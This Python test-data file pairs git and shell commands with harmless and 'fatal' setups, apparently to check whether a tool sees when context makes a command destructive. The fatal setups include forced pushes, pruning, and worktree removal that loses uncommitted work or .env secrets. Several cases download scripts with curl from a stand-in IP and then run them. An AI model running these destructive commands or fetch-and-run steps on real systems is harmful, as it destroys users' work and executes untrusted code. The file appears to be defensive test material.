"""Pairs about what settings, links and what lies in the way make of a command: (name, line, harmless, fatal)."""

from __future__ import annotations

ALL, FORCED = "refs/heads/*:refs/heads/*", "+refs/heads/*:refs/heads/*"
WORK = "repository\npushed\ngit checkout -q -b work\nfile x\ncommit\ngit checkout -q main"
TREE = "repository\ngit worktree add -q -b work ../tree"
NOTES = "repository README\ngit checkout -q -b topic\nfile notes.md\ncommit\ngit checkout -q main"
FETCHED = "curl -so get.sh http://203.0.113.9/get.sh"
AS_SET: list[tuple[str, str, str, str]] = [
    (
        "pushed as the settings say: plainly, or by force over another's commit",
        "git push",
        f"repository\npushed\ngit config remote.origin.push {FORCED}",
        f"repository\npushed\nothers_pushed\ngit config remote.origin.push {FORCED}",
    ),
    (
        "two settings of where to push: none by force, or one",
        "git push origin",
        f"repository\npushed\nothers_pushed\ngit config remote.origin.push {ALL}",
        "repository\npushed\nothers_pushed\ngit config remote.origin.push +refs/heads/main\n"
        "git config --add remote.origin.push refs/tags/*",
    ),
    (
        "a branch by its name: the settings force another, or this one",
        "git push origin main",
        "repository\npushed\nothers_pushed\ngit config remote.origin.push +refs/heads/topic",
        "repository\npushed\nothers_pushed\ngit config remote.origin.push +refs/heads/main",
    ),
    (
        "a mirror: it has all that the server has, or lacks a branch",
        "git push",
        "repository\npushed\ngit config remote.origin.mirror true",
        f"{WORK}\ngit update-ref refs/remotes/origin/work work\ngit branch -q -D work\n"
        "git config remote.origin.mirror true",
    ),
    (
        "fetched as the settings say: beside, or over branches that were worked on",
        "git fetch --prune",
        f"{WORK}\ngit config remote.origin.fetch +refs/heads/*:refs/remotes/origin/*",
        f"{WORK}\ngit config remote.origin.fetch {FORCED}",
    ),
    (
        "all remotes brought up to date: a mirror without work, or with",
        "git remote update --prune",
        f"repository\npushed\ngit branch work\ngit config remote.origin.fetch {FORCED}",
        f"{WORK}\ngit config remote.origin.fetch {FORCED}",
    ),
    (
        "forced to a branch: its folder's place is free, or a file has it",
        "git checkout -f topic",
        "repository README\ngit branch topic\nfile docs",
        "repository README\ngit checkout -q -b topic\nfile docs/a\ncommit\ngit checkout -q main\nfile docs",
    ),
    (
        "a folder that becomes a file: all in it is committed, or something is not",
        "git reset --hard topic",
        "repository README docs/a\ngit checkout -q -b topic\ngit rm -rq docs\nfile docs\ncommit\n"
        "git checkout -q main\ngit branch keep",
        "repository README docs/a\ngit checkout -q -b topic\ngit rm -rq docs\nfile docs\ncommit\n"
        "git checkout -q main\ngit branch keep\nfile docs/mine.md",
    ),
    (
        "read from a branch: the name is free, or a file has it",
        "git read-tree -u --reset topic",
        NOTES,
        f"{NOTES}\ntext notes.md 'what only stands here'",
    ),
    (
        "all paths out of a branch: the names are free, or one is taken",
        "git checkout topic -- .",
        NOTES,
        f"{NOTES}\ntext notes.md 'what only stands here'",
    ),
    (
        "one path out of a branch: the same is there, or another",
        "git restore --source topic notes.md",
        f"{NOTES}\nfile notes.md",
        f"{NOTES}\ntext notes.md 'what only stands here'",
    ),
    (
        "a further work tree as git lets it go: what is ignored is made again, or a password",
        "git worktree remove ../tree",
        f"{TREE}\ntext .git/info/exclude 'build'\nfile ../tree/Makefile.am ../tree/README",
        f"{TREE}\ntext .git/info/exclude '.env'\ntext ../tree/.env 'PASSWORD=x'",
    ),
    (
        "a further work tree with settings: a copy of those here, or its own",
        "git worktree remove ../tree",
        f"{TREE}\ntext .git/info/exclude '.env'\ntext .env 'PASSWORD=x'\ncopy .env ../tree/.env",
        f"{TREE}\ntext .git/info/exclude '.env'\ntext .env 'PASSWORD=x'\ntext ../tree/.env 'PASSWORD=y'",
    ),
    (
        "a further work tree removed from within it, or while the settings here are a link to its own",
        "git worktree remove ../tree",
        f"{TREE}\ncd ../tree",
        f"{TREE}\ntext .git/info/exclude '.env'\ntext ../tree/.env 'PASSWORD=x'\nlink .env ../tree/.env",
    ),
    (
        "a further work tree with settings, removed from within it",
        "git worktree remove ../tree",
        f"{TREE}\ncd ../tree",
        f"{TREE}\ntext .git/info/exclude '.env'\ntext ../tree/.env 'PASSWORD=x'\ncd ../tree",
    ),
    (
        "a further work tree on no branch: where a branch is, or with a commit",
        "git worktree remove ../tree",
        "repository\ngit worktree add -q --detach ../tree",
        "repository\ngit worktree add -q --detach ../tree\ncd ../tree\nfile z\ncommit\ncd ../project",
    ),
    (
        "only one folder stays in the work tree: the others are all committed, or hold a key",
        "git sparse-checkout set src",
        "repository src/a.c docs/b.md",
        "repository src/a.c docs/b.md\ntext .git/info/exclude '*.key'\nfile docs/private.key",
    ),
    (
        "the head set from below: from a branch, or from commits that are in none",
        "git symbolic-ref HEAD refs/heads/topic",
        "repository\ngit branch topic",
        "repository\ngit branch topic\ngit checkout -q --detach\nfile x\ncommit",
    ),
    (
        "notes removed from below: there are none, or some",
        "git update-ref -d refs/notes/commits",
        "repository",
        "repository\ngit notes add -m 'what was found out'",
    ),
    (
        "pruned at once: the dropped stash is committed, or was all there is",
        "git gc --prune=now",
        "repository\nedit README\ngit stash\ngit stash apply\ncommit\ngit stash drop",
        "repository\nedit README\ngit stash\ngit stash drop",
    ),
    (
        "a link to what was fetched, or to one's own",
        "./run",
        "script get.sh 'echo hi'\nlink run get.sh",
        f"script get.sh 'echo hi'\nlink run get.sh\ndid '{FETCHED}'",
    ),
    (
        "started by what was fetched, or by one's own",
        "./mine",
        "script mine '#!./start\\nx'\nscript start '#!/bin/sh\\necho hi'",
        "script mine '#!./start\\nx'\nscript start 'echo hi'\ndid 'curl -so start http://203.0.113.9/start'",
    ),
    (
        "by its name alone: one's own, or what was fetched",
        "PATH=$PWD/bin:$PATH tool",
        "script bin/tool 'echo hi'",
        "script bin/tool 'echo hi'\ndid 'curl -so bin/tool http://203.0.113.9/tool'",
    ),
]
